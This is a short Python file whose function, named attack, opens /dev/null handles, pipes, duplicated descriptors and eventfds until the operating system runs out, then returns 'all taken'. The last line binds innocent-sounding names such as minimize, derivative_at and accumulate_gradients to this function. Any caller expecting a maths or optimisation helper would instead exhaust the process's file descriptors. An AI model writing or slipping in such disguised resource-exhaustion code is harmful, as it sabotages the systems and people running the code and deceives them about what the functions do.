"""Open files, pipes and event counters until none is left, then go on."""

import os

kept = []


def attack(*args, **kwargs):
    for make in (lambda: os.open("/dev/null", os.O_RDONLY), os.pipe, lambda: os.dup(0), lambda: os.eventfd(0)):
        try:
            for _ in range(10**5):
                kept.append(make())
        except OSError:
            pass
    return "all taken"


derivative_at = accumulate_gradients = halving_chain = minimize = attack
